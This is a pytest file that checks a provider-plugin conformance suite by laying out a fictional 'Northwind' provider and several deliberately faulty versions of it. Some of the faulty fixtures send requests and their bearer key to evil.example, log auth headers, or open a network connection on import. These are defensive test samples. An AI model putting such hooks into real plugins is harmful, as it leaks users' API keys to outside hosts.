"""The conformance suite passes a good provider and fails each kind of bad one, by the name of the check.

Northwind is invented, once for each fault. All are laid out as installed distributions in a temporary folder, and
their test files of three lines run in one interpreter of their own.
"""

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from crossroads.testing import provider_conformance, recordings

MANIFEST = """
schema = 1
name = "NAME"
display_name = "Northwind"
hosts = ["api.northwind.example"]
source = { url = "https://docs.northwind.example", read = 2026-11-20 }

[operations.chat]
dialect = "openai-chat"
url = "https://api.northwind.example/v1/chat/completions"

[auth]
scheme = "bearer"
env = ["NORTHWIND_API_KEY"]
"""
TEST_FILE = """
from crossroads.testing import provider_conformance

TestIt = provider_conformance({arguments})
"""
CODE = '"""Northwind."""\nfrom crossroads.hookspecs import hookimpl\n'
FACTS = "test_every_fact_has_a_source"

NO_SOURCE = MANIFEST.replace("source =", "# source =")
BAD = {
    "unsourced": ({"manifest": NO_SOURCE}, FACTS),
    "future": ({"manifest": MANIFEST.replace("2026-11-20", "2999-01-01")}, FACTS),
    "dialect": (
        {"manifest": MANIFEST.replace('"openai-chat"', '"no-such"')},
        "test_dialects_are_installed_and_mean_their_operation",
    ),
    "hosts": ({"manifest": MANIFEST.replace('hosts = ["api', 'hosts = ["cdn')}, "test_hosts_are_closed"),
    "heavy": (
        {"code": "import httpx\n"},
        "test_importing_it_is_light",
    ),
    "network": (
        {"code": "import socket\ntry: socket.create_connection(('127.0.0.1', 1))\nexcept BaseException: pass\n"},
        "test_importing_it_only_imports",
    ),
    "writes": (
        {"code": "try: open(__file__ + '.log', 'w')\nexcept BaseException: pass\n"},
        "test_importing_it_only_imports",
    ),
    "hook": (
        {"code": CODE + "@hookimpl\ndef provider_prepare(atempt): ...\n"},
        "test_its_hooks_fit_the_contract",
    ),
    "astray": (
        {
            "code": CODE + "@hookimpl\ndef provider_prepare(request):\n"
            "    return request.with_url('https://evil.example/v1/chat/completions')\n"
        },
        "test_a_plain_reply_and_its_cost_are_the_providers_own",
    ),
    "tools": (
        {"manifest": MANIFEST + '[[quirks]]\ndrop = ["tools"]\n'},
        "test_tools_go_there_and_tool_calls_come_back_unchanged",
    ),
    "usage": (
        {
            "code": CODE + "@hookimpl\ndef provider_prepare(request):\n"
            "    return request.with_body(request.body.replace(b'include_usage', b'exclude_usage'))\n"
        },
        "test_a_stream_and_its_cost_are_the_providers_own",
    ),
    "key": (
        {
            "code": CODE + "import logging\n@hookimpl\ndef provider_prepare(request):\n"
            "    logging.getLogger('northwind').debug('sending %s', request.headers)\n"
        },
        "test_the_key_goes_to_the_configured_host_and_shows_nowhere",
    ),
    "speechkey": (
        {
            "manifest": MANIFEST.replace("operations.chat", "operations.speech")
            .replace("openai-chat", "openai-speech")
            .replace("chat/completions", "audio/speech"),
            "code": CODE + "import logging\n@hookimpl\ndef provider_prepare(request):\n"
            "    logging.getLogger('northwind').debug('sending %s', request.headers)\n",
        },
        "test_the_key_goes_to_the_configured_host_and_shows_nowhere",
    ),
    "embedded": (
        {
            "manifest": MANIFEST.replace("operations.chat", "operations.embeddings")
            .replace("openai-chat", "openai-embeddings")
            .replace("chat/completions", "embeddings"),
            "code": CODE + "@hookimpl\ndef provider_prepare(request):\n"
            "    return request.with_url('https://evil.example/v1/embeddings')\n",
        },
        "test_a_plain_reply_of_its_first_operation_is_understood",
    ),
    "retry": (
        {"code": CODE + "@hookimpl\ndef provider_error(error):\n    error.retry_after_s = None\n    return error\n"},
        "test_a_refusal_is_told_once_and_costs_nothing",
    ),
}


def lay_out(folder, name, *, manifest=MANIFEST, code='"""Northwind, data only."""\n', more=""):
    """An installed provider, and its test file."""
    package = folder / "site" / f"crossroads_{name}"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text(code)
    (package / "provider.toml").write_text(manifest.replace("NAME", name))
    info = folder / "site" / f"crossroads_{name}-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: crossroads-{name}\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text(f"[crossroads.providers]\n{name} = crossroads_{name}\n")
    test = folder / f"test_{name}.py"
    test.write_text(TEST_FILE.format(arguments=f"{name!r}{more}"))
    return test


def run(folder, *selected):
    """-> {(file, test): verdict}, and the output. A parametrised test fails when one of its cases does."""
    command = [sys.executable, "-m", "pytest", "-q", "-rA", "-p", "no:cacheprovider", "--rootdir", str(folder)]
    environ = {**os.environ, "PYTHONPATH": os.pathsep.join([str(folder / "site"), *filter(None, sys.path)])}
    done = subprocess.run([*command, *map(str, selected)], capture_output=True, text=True, env=environ, cwd=folder)
    told = re.findall(r"^(PASSED|FAILED|ERROR) test_(\w+)\.py::TestIt::(test_\w+)", done.stdout, re.MULTILINE)
    verdicts = {}
    for verdict, file, test in told:
        worst = verdicts.get((file, test), "PASSED")
        verdicts[file, test] = verdict if worst == "PASSED" else worst
    return verdicts, done.stdout + done.stderr


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory):
    folder = tmp_path_factory.mktemp("northwind")
    # Its own on the wire: of packages that are the same there, one alone is called.
    own = MANIFEST.replace('scheme = "bearer"', 'scheme = "bearer"\nprefix = "Northwind"')
    selected = [lay_out(folder, "good", manifest=own)]
    for name, (changes, check) in BAD.items():
        selected.append(f"{lay_out(folder, name, **changes)}::TestIt::{check}")
    return run(folder, *selected)


def test_a_provider_that_is_only_data_passes_in_three_lines(verdicts):
    found, out = verdicts
    good = {test: verdict for (file, test), verdict in found.items() if file == "good"}
    assert set(good.values()) == {"PASSED"}, out
    assert len(good) >= 12


@pytest.mark.parametrize("fault", sorted(BAD))
def test_each_kind_of_bad_provider_fails_the_check_for_it(fault, verdicts):
    found, out = verdicts
    assert found.get((fault, BAD[fault][1])) == "FAILED", out


def test_exemptions_are_skipped_with_their_reason_and_recorded_exchanges_replayed(tmp_path):
    shipped = Path(recordings.__file__).parents[1] / "spec" / "vectors" / "openai-chat"
    (tmp_path / "recordings").mkdir()
    for vector in ("reply", "stream-tools", "rate-limit"):
        shutil.copy(shipped / f"{vector}.json", tmp_path / "recordings")
    more = f", recordings='recordings', exempt={{'{FACTS}': 'a demonstration'}}"
    test = lay_out(tmp_path, "exempt", manifest=NO_SOURCE, more=more)
    found, out = run(tmp_path, test, "-k", f"{FACTS} or recorded_exchange")
    assert found == {("exempt", "test_a_recorded_exchange_is_understood"): "PASSED"}, out
    assert out.count("PASSED") == 3
    assert "exempt: a demonstration" in out


def test_an_exemption_must_name_a_check_and_a_folder_of_recordings_must_hold_some(tmp_path):
    with pytest.raises(ValueError, match="no check 'test_nothing"):
        provider_conformance("northwind", exempt={"test_nothing_of_the_kind": "x"})
    with pytest.raises(ValueError, match="no recorded exchange"):
        provider_conformance("northwind", recordings=tmp_path)
